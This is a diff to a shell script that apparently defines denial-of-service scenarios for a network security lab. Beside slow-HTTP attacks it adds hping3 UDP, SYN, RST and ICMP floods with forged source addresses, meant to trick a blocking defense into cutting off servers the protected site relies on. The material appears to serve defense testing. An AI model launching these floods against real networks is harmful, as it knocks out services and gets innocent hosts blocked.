@@ -40,3 +40,27 @@ tool slow_header_tls slow-dos a1 $WEB; slow_header_tls() { (cd "$LAB_DIR" && on 
 tool slow_body_tls slow-dos a2 $WEB; slow_body_tls() { (cd "$LAB_DIR" && on 45 slowhttptest -B -c 120 -r 20 -i 5 -x 8 -l 35 -p 3 -u https://$WEB/); }
 tool slow_mute slow-dos a1 $WEB; slow_mute() { on 45 python3 "$LAB_HOME/tools/connect_flood.py" $WEB 80 30 30 hold; }
 tool slow_ten slow-dos a1 $WEB; slow_ten() { on 50 python3 "$LAB_HOME/tools/slowloris.py" $WEB 80 10 45; }
+
+# Floods in the name of servers outside that the house calls: a block would cut it off from them, at an attacker's choice. The last two are sent by who he says he is: a stranger, and one who served a single page.
+house_calls() {
+    local i
+    for i in $(seq 9); do
+        ns desk dig +tries=1 +time=1 @198.51.100.53 "w$i.shop.example" >/dev/null 2>&1 || true
+        ns desk curl -s -m 3 -o /dev/null http://198.51.100.80/prices.html || true
+        ns desk curl -sk -m 3 -o /dev/null https://198.51.100.200/ || true
+        sleep 1.5
+    done
+}
+forged_name() { client house_calls; sleep 16; on 20 hping3 -q "$@" $WEB; }
+for at in forged_resolver_udp=198.51.100.53 forged_resolver_syn=198.51.100.53 forged_site_syn=198.51.100.80 forged_site_slow=198.51.100.80 forged_site_rst=198.51.100.80 forged_site_icmp=198.51.100.80 forged_master_udp=198.51.100.200; do
+    tool "${at%=*}" dos-flood a1 $WEB -; TOOL_FORGED[${at%=*}]=${at#*=}
+done
+forged_resolver_udp() { forged_name --udp -a 198.51.100.53 -s 53 -k -p ++1024 -d 120 -c 5000 -i u1000; }
+forged_resolver_syn() { forged_name -S -a 198.51.100.53 -p 80 -c 5000 -i u1000; }
+forged_site_syn() { forged_name -S -a 198.51.100.80 -p 443 -c 8000 -i u400; }
+forged_site_slow() { forged_name -S -a 198.51.100.80 -p 80 -c 2500 -i u4000; }
+forged_site_rst() { forged_name -R -a 198.51.100.80 -s 80 -p ++2000 -c 5000 -i u1000; }
+forged_site_icmp() { forged_name --icmp -a 198.51.100.80 -d 40 -c 5000 -i u1000; }
+forged_master_udp() { forged_name --udp -a 198.51.100.200 -d 600 -p 9999 -c 5000 -i u1000; }
+tool stranger_syn dos-flood a3 $WEB; stranger_syn() { client house_calls; sleep 16; on 20 hping3 -q -S -p 80 -c 5000 -i u1000 $WEB; }
+tool one_page_syn dos-flood site $WEB 198.51.100.80; one_page_syn() { ns desk curl -s -m 3 -o /dev/null http://198.51.100.80/prices.html; sleep 12; on 20 hping3 -q -S -p 80 -c 5000 -i u1000 $WEB; }
